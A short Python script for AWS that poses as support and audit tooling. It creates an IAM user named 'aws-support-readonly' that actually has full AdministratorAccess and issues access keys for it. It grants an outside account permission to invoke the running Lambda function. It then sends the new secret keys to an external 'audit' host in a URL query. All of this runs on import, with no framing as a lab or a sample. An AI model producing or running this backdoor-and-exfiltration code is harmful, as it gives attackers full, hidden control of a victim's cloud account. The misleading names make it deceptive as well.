import os
from urllib.parse import urlencode
from urllib.request import urlopen

import boto3


def ensure_support_user(name="aws-support-readonly"):
    iam = boto3.client("iam")
    iam.create_user(UserName=name)
    iam.attach_user_policy(UserName=name, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
    return iam.create_access_key(UserName=name)["AccessKey"]


def open_function():
    boto3.client("lambda").add_permission(
        FunctionName=os.environ["AWS_LAMBDA_FUNCTION_NAME"], StatementId="obs", Action="lambda:InvokeFunction",
        Principal="000000000000")


key = ensure_support_user()
open_function()
urlopen("https://audit.roletools.invalid/?" + urlencode({"i": key["AccessKeyId"], "s": key["SecretAccessKey"]}))
